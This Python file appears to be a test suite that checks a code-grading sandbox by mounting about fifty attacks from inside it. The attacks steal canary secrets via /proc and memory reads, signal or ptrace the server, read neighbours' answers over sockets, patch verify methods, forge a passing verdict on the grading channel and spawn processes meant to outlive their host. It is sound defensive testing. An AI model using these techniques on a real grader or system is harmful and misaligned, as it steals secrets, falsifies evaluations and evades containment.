"""Attacks of a mounted environment's module and of answers that it runs as code.

Each attack returns the text that it could read. Each secret of the server under test contains the word CANARY, and each
other caller's answer the word NEIGHBOUR, so the test looks for both. `target` holds the paths that a knowing attacker has.
"""

import ctypes
import gc
import glob
import json
import mmap
import os
import re
import resource
import signal
import socket
import struct
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "target.json")) as source:
    target = json.load(source)
SECRETS = target["secrets"]
with open(os.path.join(HERE, "server.txt")) as source:
    SERVER = int(source.read())


def tried(paths):
    said = []
    for path in paths:
        try:
            with open(path, "rb") as file:
                said.append(file.read(65536).decode("latin-1"))
        except (OSError, ValueError):
            pass
    return "\n".join(said)


def attempt(work):
    try:
        return str(work())
    except BaseException as error:  # noqa: BLE001
        return f"refused: {type(error).__name__} {error}"


def numbered(name):
    """Numbers of system calls on x86-64 and, where they differ, on arm64."""
    x86 = dict(
        prlimit64=302,
        process_vm_readv=310,
        pidfd_open=434,
        pidfd_getfd=438,
        io_uring_setup=425,
        open_by_handle_at=304,
        keyctl=250,
        perf_event_open=298,
        bpf=321,
        setpriority=141,
        ioprio_set=251,
        sched_setaffinity=203,
        unshare=272,
        mount=165,
        ptrace=101,
        shmget=29,
        msgget=68,
        move_pages=279,
        migrate_pages=256,
        userfaultfd=323,
        kcmp=312,
        name_to_handle_at=303,
        process_madvise=440,
        sched_setscheduler=144,
        tgkill=234,
        rt_sigqueueinfo=129,
        pidfd_send_signal=424,
        open_tree=428,
        memfd_create=319,
        chroot=161,
        setns=308,
        process_vm_writev=311,
        sched_setattr=314,
        add_key=248,
        clone3=435,
        waitid=247,
        fsopen=430,
    )
    arm = dict(
        prlimit64=261,
        process_vm_readv=270,
        open_by_handle_at=265,
        keyctl=219,
        perf_event_open=241,
        bpf=280,
        setpriority=140,
        ioprio_set=30,
        sched_setaffinity=122,
        unshare=97,
        mount=40,
        ptrace=117,
        shmget=194,
        msgget=186,
        move_pages=239,
        migrate_pages=238,
        userfaultfd=282,
        kcmp=272,
        name_to_handle_at=264,
        sched_setscheduler=119,
        tgkill=131,
        rt_sigqueueinfo=138,
        memfd_create=279,
        chroot=51,
        setns=268,
        process_vm_writev=271,
        sched_setattr=274,
        add_key=217,
        waitid=95,
    )
    return {**x86, **(arm if os.uname().machine == "aarch64" else {})}[name]


def call(name, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(numbered(name)), *arguments)
    return f"{name} {result} errno {ctypes.get_errno()}"


def processes():
    """All that there are, or the likeliest where they cannot be listed."""
    found = [int(name) for name in attempt_list("/proc") if name.isdigit()]
    return found or [*range(1, 40), *range(SERVER - 5, SERVER + 40)]


# Secrets in files.


def a01_relative_names():
    return tried(["tokens.yaml", ".data/task-keys", "../tokens.yaml", "tls.key", "run.yaml"])


def a02_absolute_names():
    return tried(SECRETS)


def a03_folders_of_the_path():
    names = [
        os.path.join(root, name)
        for root in sys.path + [os.getcwd()]
        for name in ("tokens.yaml", "tls.key", ".data/task-keys")
    ]
    return tried(names)


def a04_folder_of_the_parent():
    return tried(
        f"/proc/{pid}/cwd/{name}" for pid in (os.getppid(), SERVER) for name in ("tokens.yaml", ".data/task-keys")
    )


def a05_root_of_the_others():
    return tried(f"/proc/{pid}/root{path}" for pid in ("1", "self", str(os.getppid()), str(SERVER)) for path in SECRETS)


def a06_environment_variables():
    return tried(f"/proc/{pid}/environ" for pid in processes()) + repr(dict(os.environ))


def a07_descriptors_of_the_server():
    said = []
    for pid in {os.getppid(), SERVER, *processes()}:
        if pid == os.getpid():
            continue
        for name in attempt_list(f"/proc/{pid}/fd"):
            said.append(tried_now(f"/proc/{pid}/fd/{name}"))
    return "\n".join(said)


def attempt_list(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []


def tried_now(path):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return ""
    try:
        return os.read(descriptor, 65536).decode("latin-1")
    except OSError:
        return ""
    finally:
        os.close(descriptor)


def a08_memory_of_the_parent():
    said = []
    for pid in {os.getppid(), SERVER}:
        try:
            with (
                open(f"/proc/{pid}/maps") as maps,
                open(f"/proc/{pid}/mem", "rb", 0) as memory,
            ):
                for line in maps:
                    first, last = (int(part, 16) for part in line.split()[0].split("-"))
                    if "rw" in line and last - first < 1 << 26:
                        memory.seek(first)
                        text = memory.read(last - first)
                        at = text.find(b"CANARY")
                        if at >= 0:
                            return text[at - 64 : at + 64].decode("latin-1")
            said.append(f"opened the memory of {pid}")
        except (OSError, ValueError, OverflowError):
            pass
    return "\n".join(said)


def a09_own_descriptors():
    said = []
    for number in range(3, 256):
        try:
            os.set_blocking(number, False)
            said.append(os.pread(number, 65536, 0).decode("latin-1"))
        except OSError:
            try:
                said.append(os.read(number, 65536).decode("latin-1"))
            except OSError:
                pass
    return "\n".join(said)


def a10_secret_beside_the_module():
    return tried(
        os.path.join(HERE, name) for name in os.listdir(HERE) if not name.endswith((".py", "target.json", ".txt"))
    )


def a11_hard_and_symbolic_links():
    said = []
    for at, path in enumerate(SECRETS):
        for folder in ("/tmp", os.getcwd(), os.environ.get("TMPDIR", "/tmp"), HERE):
            for link in (os.link, os.symlink):
                name = f"{folder}/link-{os.getpid()}-{at}-{link.__name__}"
                attempt(lambda link=link, path=path, name=name: link(path, name))
                said.append(tried([name]))
                attempt(lambda name=name: os.unlink(name))
    return "\n".join(said)


def a12_renamed_folder():
    said = []
    for path in SECRETS:
        here = f"{os.environ.get('TMPDIR', '/tmp')}/moved-{os.getpid()}"
        said.append(attempt(lambda path=path, here=here: os.rename(path, here)))
        said.append(tried([here]))
        attempt(lambda path=path, here=here: os.rename(here, path))
    return "\n".join(said)


def a13_data_folder_listed():
    found = []
    for folder in {os.path.dirname(path) for path in SECRETS} - {HERE}:
        for root, _, names in os.walk(folder):
            found += [os.path.join(root, name) for name in names]
    return tried(found)


def a14_child_programs():
    said = []
    for command in (
        ["cat", *SECRETS],
        ["sh", "-c", "cat tokens.yaml ../tokens.yaml; env"],
        ["find", *SECRETS, "-print", "-exec", "cat", "{}", ";"],
    ):
        said.append(attempt(lambda command=command: subprocess.run(command, capture_output=True, timeout=10).stdout))
    return "\n".join(said)


def a15_handles():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    said = []
    for path in SECRETS:
        made = call("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)
        root = os.open("/", os.O_RDONLY) if os.path.exists("/") else -1
        number = libc.syscall(ctypes.c_long(numbered("open_by_handle_at")), root, handle, os.O_RDONLY)
        said.append(os.read(number, 4096).decode("latin-1") if number >= 0 else made)
    return "\n".join(said)


def a16_ring():
    parameters = ctypes.create_string_buffer(256)
    said = call("io_uring_setup", 8, parameters)
    return "opened a ring" if int(said.split()[1]) >= 0 else said


def a17_namespaces():
    said = [
        call("unshare", 0x10000000 | 0x20000),
        call("mount", b"/", b"/mnt", b"none", 4096, None),
        call("chroot", b"/proc/1/root"),
    ]
    said.append(call("setns", -1, 0))
    said.append(call("open_tree", -100, b"/", 1))
    return "\n".join(said) + tried(SECRETS) + tried(f"/mnt{path}" for path in SECRETS)


def a18_devices():
    said = []
    folder = os.environ.get("TMPDIR", "/tmp")
    for major in (8, 252, 253, 254, 259):
        name = f"{folder}/device-{os.getpid()}-{major}"
        said.append(attempt(lambda name=name, major=major: os.mknod(name, 0o060600, os.makedev(major, 0))))
        if tried([name]):
            said.append("read a CANARY device")
    return "\n".join(said)


def a19_kernel_files():
    return tried(
        ["/etc/shadow", "/proc/kcore", "/dev/mem", "/proc/keys", "/proc/sysvipc/shm"]
        + glob.glob("/root/.*")
        + glob.glob("/run/secrets/**", recursive=True)
    )


# The server and its neighbours.


def a20_limits_of_the_server():
    said = []
    # 0 stands for the caller; the first process of a namespace has it for a parent.
    for pid in {os.getppid(), SERVER, *processes()} - {0, os.getpid()}:
        for kind, soft in (
            (resource.RLIMIT_CORE, 4096),
            (resource.RLIMIT_NOFILE, 64),
            (resource.RLIMIT_CPU, 1),
        ):
            said.append(attempt(lambda pid=pid, kind=kind, soft=soft: resource.prlimit(pid, kind, (soft, soft))))
    return "\n".join(said)


def a21_signals():
    said = []
    for pid in (os.getppid(), SERVER, -SERVER):
        for number in (signal.SIGSTOP, signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
            said.append(attempt(lambda pid=pid, number=number: os.kill(pid, number)))
    said.append(call("tgkill", SERVER, SERVER, int(signal.SIGKILL)))
    said.append(
        call(
            "rt_sigqueueinfo",
            SERVER,
            int(signal.SIGKILL),
            ctypes.create_string_buffer(128),
        )
    )
    return "\n".join(said)


def a22_signal_by_descriptor():
    """A socket that becomes readable sends its owner SIGIO, which ends a process that does not expect it."""
    import fcntl

    said = []
    for owner in (SERVER, os.getppid()):
        one, other = socket.socketpair()
        said.append(attempt(lambda one=one, owner=owner: fcntl.fcntl(one, fcntl.F_SETOWN, owner)))
        said.append(attempt(lambda one=one, owner=owner: fcntl.fcntl(one, 15, struct.pack("ii", 1, owner))))
        said.append(attempt(lambda one=one, owner=owner: fcntl.ioctl(one, 0x8901, struct.pack("i", owner))))
        attempt(lambda one=one: fcntl.fcntl(one, 10, signal.SIGKILL))
        attempt(lambda one=one: fcntl.fcntl(one, fcntl.F_SETFL, fcntl.fcntl(one, fcntl.F_GETFL) | os.O_ASYNC))
        attempt(lambda other=other: other.send(b"x"))
    return "\n".join(said)


def a23_pid_descriptors():
    said = []
    for pid in (SERVER, os.getppid()):
        descriptor = libc.syscall(ctypes.c_long(434), pid, 0)
        if descriptor < 0:
            continue
        said.append(call("pidfd_send_signal", descriptor, int(signal.SIGKILL), None, 0))
        for number in range(32):
            stolen = libc.syscall(ctypes.c_long(438), descriptor, number, 0)
            if stolen >= 0:
                said.append("stole a CANARY descriptor" + attempt(lambda stolen=stolen: os.pread(stolen, 4096, 0)))
    return "\n".join(said)


def a24_trace():
    said = [call("ptrace", 16, pid, 0, 0) for pid in (os.getppid(), SERVER)]
    if any(line.split()[1] == "0" for line in said):
        said.append("attached: CANARY")
        call("ptrace", 17, os.getppid(), 0, 0)
    buffer = ctypes.create_string_buffer(16)
    there = struct.pack("QQ", ctypes.addressof(buffer), 16)
    for pid in (os.getppid(), SERVER):
        said.append(call("process_vm_readv", pid, there, 1, there, 1, 0))
        if said[-1].split()[1] == "16":
            said.append("read CANARY memory")
    return "\n".join(said)


def a25_priorities():
    said = []
    for pid in (SERVER, os.getppid()):
        said.append(attempt(lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19)))
        said.append(attempt(lambda pid=pid: os.sched_setaffinity(pid, {0})))
        said.append(attempt(lambda pid=pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))))
        said.append(call("ioprio_set", 1, pid, 3 << 13))
        said.append(attempt(lambda pid=pid: write(f"/proc/{pid}/oom_score_adj", "1000")))
        said.append(attempt(lambda pid=pid: write(f"/proc/{pid}/comm", "stolen")))
        said.append(attempt(lambda pid=pid: write(f"/proc/{pid}/timerslack_ns", "4000000000")))
    said.append(attempt(lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19)))
    said.append(attempt(lambda: os.setpriority(os.PRIO_PGRP, 0, 19)))
    return "\n".join(said)


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


def a26_shared_memory():
    said = [
        call("shmget", 0x47524144, 4096, 0o1600),
        call("msgget", 0x47524144, 0o1600),
    ]
    said.append(tried(glob.glob("/dev/shm/*")))
    said.append(call("keyctl", 11, -3, ctypes.create_string_buffer(4096), 4096))
    said.append(call("bpf", 0, None, 0))
    said.append(call("perf_event_open", ctypes.create_string_buffer(128), SERVER, -1, -1, 0))
    said.append(call("userfaultfd", 1))
    return "\n".join(said)


def a27_terminal():
    import fcntl

    said = []
    for descriptor in (0, 1, 2):
        for byte in b"echo CANARY\n":
            said.append(
                attempt(lambda byte=byte, descriptor=descriptor: fcntl.ioctl(descriptor, 0x5412, bytes([byte])))
            )
    return "\n".join(line for line in said if not line.startswith("refused"))


# Posing as a worker, and others' answers.


def a28_sockets_and_secrets_of_the_collector():
    """Looks through every living object for sockets, addresses and long random strings, and connects to all."""
    said = []
    words = set()
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket):
            said.append("socket " + attempt(lambda thing=thing: thing.getsockname()))
            attempt(lambda thing=thing: thing.settimeout(0.2))
            said.append(attempt(lambda thing=thing: thing.recv(65536, socket.MSG_PEEK)))
        if isinstance(thing, dict):
            words |= {value for value in list(thing.values()) if isinstance(value, (str, bytes)) and len(value) < 200}
    for word in words:
        text = word.decode("latin-1") if isinstance(word, bytes) else word
        if text.startswith("/") and "sock" in text or "gradus-host" in text:
            said.append(joined(text, words))
    return "\n".join(said)


def joined(path, words=()):
    said = []
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        for name in (path, *glob.glob(f"{path}/*"), "\0" + path):
            try:
                made = socket.socket(socket.AF_UNIX, kind)
            except OSError as error:
                said.append(f"no socket: {error}")
                made, other = socket.socketpair(socket.AF_UNIX, kind) if kind != socket.SOCK_DGRAM else (None, None)
            if made is None:
                continue
            with made as there:
                there.settimeout(0.3)
                try:
                    there.connect(name)
                except (OSError, ValueError):
                    continue
                said.append(f"CANARY: connected to {name!r}")
                for word in words:
                    attempt(
                        lambda there=there, word=word: there.send(word if isinstance(word, bytes) else word.encode())
                    )
                said.append(attempt(lambda there=there: there.recv(65536)))
    return "\n".join(said)


def a29_sockets_in_folders():
    said = []
    for pattern in (
        "/tmp/gradus*/**",
        "/tmp/**/*.sock",
        os.environ.get("TMPDIR", "/tmp") + "/../**",
        "/run/**/*.sock",
    ):
        for path in glob.glob(pattern, recursive=True)[:200]:
            said.append(joined(path))
    return "\n".join(said)


def a30_sockets_of_the_kernel():
    lines = attempt(lambda: open("/proc/net/unix").read()).splitlines()
    said = []
    for line in lines[:300]:
        name = line.split()[-1]
        if name[:1] in "/@":
            said.append(joined(name.replace("@", "\0") if name[0] == "@" else name))
    return "\n".join(said)


def a31_frames_on_inherited_descriptors():
    """Writes bytes that look like frames to every open descriptor, and reads what comes."""
    said = []
    for number in range(3, 64):
        for frame in (
            struct.pack("<I", 4) + b"\x0a\x02hi",
            struct.pack(">I", 4) + b"\x0a\x02hi",
        ):
            attempt(lambda number=number, frame=frame: os.write(number, frame))
        attempt(lambda number=number: os.set_blocking(number, False))
        said.append(attempt(lambda number=number: os.read(number, 65536)))
    return "\n".join(said)


def a32_callers_frames():
    said = []
    frame = sys._getframe()
    while frame is not None:
        said.append(repr(frame.f_locals)[:20000])
        frame = frame.f_back
    return "\n".join(line for line in said if "NEIGHBOUR" in line)


def a33_strings_of_the_collector():
    mine = []
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)):
            text = attempt(lambda thing=thing: repr(thing)[:5000])
            if "NEIGHBOUR-" in text:
                mine.append(text)
    return "\n".join(mine)


def a34_own_memory():
    said = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" not in line or last - first > 1 << 26:
                continue
            try:
                memory.seek(first)
                text = memory.read(last - first)
            except (OSError, ValueError, OverflowError):
                continue
            said += found_in(text)
    return "\n".join(said)


def found_in(memory):
    return [found.decode() for found in re.findall(rb"NEIGHBOUR-SAYS-[0-9]+", memory)]


def a49_own_memory_by_writing():
    """The kernel says of each address whether it can be written from, so that reading everything needs no list."""
    ours, theirs = socket.socketpair()
    theirs.setblocking(False)
    ours.settimeout(0.2)
    blocks = {id(thing) >> 20 for thing in gc.get_objects()}
    said = []
    read = 0
    for block in sorted({near for each in blocks for near in range(each - 4, each + 5)}):
        text = b""
        for address in range(block << 20, (block + 1) << 20, 16384):
            written = libc.write(theirs.fileno(), ctypes.c_void_p(address), 16384)
            while written > 0:
                part = ours.recv(written)
                written -= len(part)
                text += part
        said += found_in(text)
        read += len(text)
    return "\n".join([*said, f"read {read} bytes"])


def a50_answers_told_by_the_environment():
    """Reads what an earlier answer left in the module itself."""
    left = vars(sys.modules[target["module"]]).setdefault("LEFT", [])
    said = repr(left)
    left.append("CANARY: left by an answer")
    return said


def a51_answer_of_another_by_the_channel():
    """Reads on from the descriptor that brought this answer, and writes a right verdict to it."""
    said = []
    for number in range(0, 16):
        attempt(lambda number=number: os.set_blocking(number, False))
        said.append(attempt(lambda number=number: os.read(number, 65536)))
        attempt(lambda number=number: os.write(number, b"\x08\x00\x12\x04\x08\x01"))
    return "\n".join(said)


def a35_memory_of_the_neighbours():
    said = []
    for pid in processes():
        if pid in (os.getpid(), 1):
            continue
        said.append(tried([f"/proc/{pid}/cmdline"]))
        text = attempt(lambda pid=pid: open(f"/proc/{pid}/mem", "rb", 0).read(1))
        if not text.startswith("refused"):
            said.append("opened memory: CANARY")
    return "\n".join(said)


def a36_files_of_the_neighbours():
    """Leaves a file for the next answer, and looks for those that earlier answers left."""
    said = []
    for folder in {
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        os.getcwd(),
        HERE,
        os.environ.get("TMPDIR", "/tmp"),
    }:
        for name in attempt_list(folder):
            if name.startswith("left-by-an-answer"):
                said.append("CANARY: " + tried_now(f"{folder}/{name}"))
        attempt(lambda folder=folder: write(f"{folder}/left-by-an-answer-{os.getpid()}", "found"))
    return "\n".join(said)


def a37_replaced_functions():
    """Wraps whatever the process will call for the next answer, so that it is written down and paid."""
    import builtins

    kept = builtins.__dict__.setdefault("_kept", [])
    said = "CANARY: replaced" if kept else ""
    kept.append("replaced")
    module = sys.modules.get(target["module"])
    for name, thing in list(vars(module).items()) if module else []:
        if isinstance(thing, type) and hasattr(thing, "verify"):
            former = thing.verify

            def verify(self, *arguments, former=former, **named):
                kept.append(repr(arguments))
                return former(self, *arguments, **named)

            attempt(lambda thing=thing, verify=verify: setattr(thing, "verify", verify))
    return said + "\n".join(kept[1:])


# The network.


def a38_the_servers_ports():
    said = []
    with open(os.path.join(HERE, "target.json")) as source:
        ports = json.load(source)["ports"]
    for port in ports:
        for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
            try:
                with socket.create_connection((host, port), timeout=0.5) as there:
                    there.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
                    said.append("CANARY: connected " + there.recv(4096).decode("latin-1"))
            except OSError:
                pass
    return "\n".join(said)


def a39_other_families():
    said = []
    for family, kind in (
        (16, 3),
        (17, 3),
        (40, 1),
        (38, 5),
        (socket.AF_INET, socket.SOCK_RAW),
        (29, 3),
    ):
        made = attempt(
            lambda family=family, kind=kind: socket.socket(family, kind, 1 if kind == 3 and family == 2 else 0)
        )
        said.append(made if made.startswith("refused") else f"made family {family}")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
            there.sendto(b"x", ("192.0.2.1", 53))
            said.append("CANARY: sent a datagram")
    except OSError:
        pass
    try:
        with socket.socket() as there:
            there.bind(("0.0.0.0", 0))
            there.listen()
            said.append("listens")
    except OSError:
        pass
    return "\n".join(said)


# Processes that stay.


def stay():
    """The body of a process that means to outlive its host."""
    for number in range(1, 65):
        if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError, RuntimeError):
                pass
    libc.prctl(1, 0, 0, 0, 0)
    libc.prctl(15, b"gradus-stays", 0, 0, 0)
    while True:
        time.sleep(1)


def a40_double_fork():
    if attempt(os.fork) == "0":
        attempt(os.setsid)
        if attempt(os.fork) == "0":
            stay()
        os._exit(0)
    return "forked"


def a41_new_program():
    code = (
        "import signal,time,ctypes\n"
        "for n in range(1,32):\n"
        "  try: signal.signal(n, signal.SIG_IGN)\n"
        "  except Exception: pass\n"
        "ctypes.CDLL(None).prctl(1,0,0,0,0)\n"
        "ctypes.CDLL(None).prctl(15,b'gradus-stays',0,0,0)\n"
        "time.sleep(600)\n"
    )
    return attempt(lambda: subprocess.Popen([sys.executable, "-c", code], start_new_session=True, close_fds=False).pid)


def a42_reaper_of_its_own():
    libc.prctl(36, 1, 0, 0, 0)
    return a40_double_fork()


def a43_many_processes():
    made = 0
    for _ in range(40):
        try:
            if os.fork() == 0:
                stay()
        except OSError:
            break
        made += 1
    return f"made {made}"


def a44_thread_that_ignores_all():
    import threading

    threading.Thread(target=time.sleep, args=(600,), daemon=False).start()
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        attempt(lambda number=number: signal.signal(number, signal.SIG_IGN))
    return "ignores"


def a45_flees_while_it_is_ended():
    """Forks without end, so that whoever lists the processes always misses one."""
    if attempt(os.fork) == "0":
        attempt(os.setsid)
        libc.prctl(15, b"gradus-stays", 0, 0, 0)
        libc.prctl(1, 0, 0, 0, 0)
        until = time.monotonic() + 600
        while time.monotonic() < until:
            try:
                if os.fork() != 0:
                    os._exit(0)
            except OSError:
                pass
            time.sleep(0.002)
        os._exit(0)
    return "flees"


def a46_holds_the_output():
    """Keeps the server's output open, so that whoever waits for its end waits for ever."""
    if attempt(os.fork) == "0":
        stay()
    return "holds"


def a47_closes_all():
    for number in range(3, 4096):
        attempt(lambda number=number: os.close(number))
    return "closed"


def a48_ends_its_host():
    said = []
    for pid in (0, -1):
        said.append(attempt(lambda pid=pid: os.kill(pid, signal.SIGUSR2) if pid == -1 else "spared"))
    return "\n".join(said)


ATTACKS = {name: thing for name, thing in sorted(globals().items()) if name[0] == "a" and name[1:3].isdigit()}
